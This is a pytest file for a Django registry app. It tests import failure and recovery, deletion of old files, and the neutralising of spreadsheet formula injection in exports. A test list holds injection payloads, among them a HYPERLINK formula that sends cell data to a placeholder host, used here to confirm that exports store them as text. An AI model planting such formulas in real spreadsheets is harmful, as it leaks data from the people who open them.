"""Failed and interrupted imports end "gagal" with a reason and leave nothing behind;
old files are deleted; exports write text, never formulas."""

import csv
import datetime
import io
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from registri.cari import cek_nik
from registri.generator import baris_dtks, tulis_csv
from registri.impor import hapus_berkas_kedaluwarsa, impor_berkas, jalankan_impor, pulihkan_impor_macet
from registri.models import BarisDtks, Jenis, Snapshot
from registri.sanding import sanding_berkas

ROOT = Path(__file__).resolve().parents[2]


def _sisa_tabel():
    from registri import impor_pg

    return sorted(name for name, _ in impor_pg.tabel_tersisa())


def test_an_unreadable_xlsx_upload_ends_gagal_with_the_reason_in_the_admin(client, users, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.IMPOR_DI_LATAR = False
    client.force_login(users["admin"])
    # A zip container (passes the content check) that holds no workbook.
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("bukan/lembar.txt", "x" * 1000)
    buffer.seek(0)
    buffer.name = "dtks.xlsx"
    client.post(reverse("admin:registri_unggah"), {"jenis": "dtks", "berkas": buffer})
    snapshot = Snapshot.objects.get()
    assert snapshot.status == "antre"
    jalankan_impor(snapshot.pk)
    snapshot.refresh_from_db()
    assert snapshot.status == "gagal" and "XLSX" in snapshot.pesan
    html = client.get(reverse("admin:registri_snapshot_changelist")).content.decode()
    assert "Gagal" in html and snapshot.pesan in html
    assert snapshot.pesan in client.get(reverse("admin:registri_progres_bagian", args=[snapshot.pk])).content.decode()


def test_a_crash_in_the_middle_leaves_no_rows_and_the_old_snapshot_active(kantor, tmp_path, monkeypatch):
    from registri import impor as impor_mod

    path = tmp_path / "lama.csv"
    tulis_csv(path, 30, kode_wilayah="1609", seed=5)
    lama = impor_berkas(path, Jenis.DTKS)
    tulis_csv(path, 300, kode_wilayah="1609", seed=6)

    def boom(*args, **kwargs):
        raise MemoryError("habis")

    monkeypatch.setattr(impor_mod, "_selesai", boom)
    baru = impor_berkas(path, Jenis.DTKS)
    assert baru.status == "gagal" and "habis" in baru.pesan
    assert BarisDtks.objects.filter(snapshot=baru).count() == 0
    assert Snapshot.objects.get(aktif=True) == lama
    if connection.vendor == "postgresql":
        assert _sisa_tabel() == [f"registri_barisdtks_p{lama.pk}"]


def test_an_import_whose_process_died_is_recovered_by_the_next_run(kantor, tmp_path):
    """SQLite and PostgreSQL alike: a "Sedang dimuat" import nobody runs any more."""
    path = tmp_path / "lama.csv"
    tulis_csv(path, 30, kode_wilayah="1609", seed=5)
    lama = impor_berkas(path, Jenis.DTKS)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    mati = Snapshot.objects.create(
        jenis=Jenis.DTKS, nama_berkas="x.csv", status="berjalan", pemroses=f"{socket.gethostname()}:{dead.pid}"
    )
    if connection.vendor == "postgresql":
        from registri import impor_pg

        with connection.cursor() as cursor:
            impor_pg.buat_anak(cursor, mati)
            cursor.execute(f"INSERT INTO {impor_pg.tabel_anak(mati)} (nik, nama) VALUES ('1609011204850002', 'Siti')")
            cursor.execute(f"CREATE UNLOGGED TABLE {impor_pg.tabel_muat(mati)} (k0 text)")
    else:
        BarisDtks.objects.create(snapshot=mati, nik="1609011204850002", nama="Siti")
    assert pulihkan_impor_macet() == [mati.pk]
    mati.refresh_from_db()
    assert mati.status == "gagal" and "terhenti" in mati.pesan
    assert not BarisDtks.objects.filter(snapshot=mati).exists()
    assert Snapshot.objects.get(aktif=True) == lama
    if connection.vendor == "postgresql":
        assert _sisa_tabel() == [f"registri_barisdtks_p{lama.pk}"]


def test_a_running_import_is_not_taken_for_a_dead_one(kantor):
    hidup = Snapshot.objects.create(
        jenis=Jenis.DTKS, nama_berkas="x.csv", status="berjalan", pemroses=f"{socket.gethostname()}:{os.getppid()}"
    )
    if connection.vendor == "postgresql":
        pytest.skip("Di PostgreSQL kunci advisory yang menentukan; diuji oleh test_kill_at_30_percent.")
    hidup.detak = timezone.now()
    hidup.save()
    assert pulihkan_impor_macet() == []
    hidup.refresh_from_db()
    assert hidup.status == "berjalan"


@pytest.mark.django_db(transaction=True)
def test_kill_at_30_percent_then_restart_leaves_gagal_no_tables_and_the_old_snapshot(tmp_path):
    if connection.vendor != "postgresql":
        pytest.skip("Uji bunuh proses memakai PostgreSQL (set DATABASE_URL): basis data uji SQLite ada di memori.")
    lama_path = tmp_path / "lama.csv"
    tulis_csv(lama_path, 50, kode_wilayah="1609", seed=5)
    lama = impor_berkas(lama_path, Jenis.DTKS)
    nik_lama = next(baris_dtks(1, kode_wilayah="1609", seed=5))[0]
    path = tmp_path / "besar.csv"
    tulis_csv(path, 400000, kode_wilayah="1609", seed=9)
    settings_dict = connection.settings_dict
    env = {
        **os.environ,
        "DATABASE_URL": f"postgres://{settings_dict['USER']}@{settings_dict['HOST']}:{settings_dict['PORT']}/"
        f"{settings_dict['NAME']}",
    }
    proc = subprocess.Popen([sys.executable, "manage.py", "impor_dtks", str(path)], cwd=ROOT, env=env)
    deadline = time.time() + 300
    persen = 0
    try:
        while time.time() < deadline and proc.poll() is None:
            baru = Snapshot.objects.exclude(pk=lama.pk).first()
            if baru and baru.status == "berjalan" and baru.total_baris:
                persen = 100 * baru.diproses / baru.total_baris
                if persen >= 25:
                    break
            # The old snapshot answers throughout.
            assert Snapshot.objects.get(aktif=True).pk == lama.pk
            time.sleep(0.05)
        assert proc.poll() is None, "impor selesai sebelum sempat dihentikan"
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
    assert 25 <= persen < 100
    baru = Snapshot.objects.exclude(pk=lama.pk).get()
    assert baru.status == "berjalan"  # what a restart finds
    assert f"registri_barisdtks_p{baru.pk}" in _sisa_tabel()
    # The worker (or web process) starts again and recovers.
    assert pulihkan_impor_macet() == [baru.pk]
    baru.refresh_from_db()
    assert baru.status == "gagal" and "terhenti" in baru.pesan
    assert _sisa_tabel() == [f"registri_barisdtks_p{lama.pk}"]
    assert Snapshot.objects.get(aktif=True).pk == lama.pk
    assert BarisDtks.objects.filter(snapshot=lama, nik=nik_lama).exists()


def test_uploads_and_sanding_results_are_deleted_after_the_retention_period(kantor, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.REGISTRI_SIMPAN_HARI = 7
    lama = Snapshot.objects.create(
        jenis=Jenis.DTKS, nama_berkas="a.csv", status="selesai", berkas=ContentFile(b"nik,nama\n", name="a.csv")
    )
    Snapshot.objects.filter(pk=lama.pk).update(dibuat_pada=timezone.now() - datetime.timedelta(days=8))
    baru = Snapshot.objects.create(
        jenis=Jenis.DTKS, nama_berkas="b.csv", status="selesai", berkas=ContentFile(b"nik,nama\n", name="b.csv")
    )
    old_result = default_storage.save("sanding/lama.xlsx", ContentFile(b"x"))
    new_result = default_storage.save("sanding/baru.xlsx", ContentFile(b"x"))
    eight_days = time.time() - 8 * 86400
    os.utime(default_storage.path(old_result), (eight_days, eight_days))
    lama_path = lama.berkas.path
    assert hapus_berkas_kedaluwarsa() == 2
    lama.refresh_from_db()
    assert not lama.berkas and not os.path.exists(lama_path)
    assert Snapshot.objects.get(pk=baru.pk).berkas
    assert not default_storage.exists(old_result) and default_storage.exists(new_result)


# -- formula injection ----------------------------------------------------------------


RUMUS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_the_sanding_result_writes_formulas_as_text(kantor, tmp_path):
    path = tmp_path / "dtks.csv"
    tulis_csv(path, 20, kode_wilayah="1609", seed=11)
    impor_berkas(path, Jenis.DTKS)
    with open(tmp_path / "in.csv", "w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["NIK", "Nama"])
        for rumus in RUMUS:
            writer.writerow([rumus, rumus])
    sanding_berkas(tmp_path / "in.csv", tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    cells = [(row[1], row[2]) for row in sheet.iter_rows(min_row=3)]
    for (nik, nama), rumus in zip(cells, RUMUS, strict=True):
        assert nama.data_type == "s" and nama.value == rumus.strip()
        assert nik.data_type == "s"
    # And in the sheet's XML no cell holds a formula.
    import zipfile

    xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_the_rejected_rows_report_writes_formulas_as_text(client, users, tmp_path):
    path = tmp_path / "dtks.csv"
    with open(path, "w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["nik", "nama"])
        for rumus in RUMUS:
            writer.writerow([rumus, "Siti"])
    snapshot = impor_berkas(path, Jenis.DTKS)
    assert snapshot.ditolak == len(RUMUS)
    client.force_login(users["admin"])
    text = client.get(reverse("admin:registri_laporan", args=[snapshot.pk])).content.decode()
    cells = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert cells and all(cell.startswith("'") for cell in cells), cells
    # A report stored before this rule existed is made safe when downloaded.
    Snapshot.objects.filter(pk=snapshot.pk).update(laporan="baris,nik,alasan\n2,=1+1,NIK harus 16 angka\n")
    text = client.get(reverse("admin:registri_laporan", args=[snapshot.pk])).content.decode()
    assert "'=1+1" in text


def test_cek_nik_still_answers_from_the_active_snapshot(kantor, tmp_path, users):
    """Sanity: after all of the above helpers, a plain import still answers look-ups."""
    path = tmp_path / "dtks.csv"
    tulis_csv(path, 10, kode_wilayah="1609", seed=12)
    impor_berkas(path, Jenis.DTKS)
    nik = next(baris_dtks(1, kode_wilayah="1609", seed=12))[0]
    assert cek_nik(nik, users["fo"]).dtks is not None
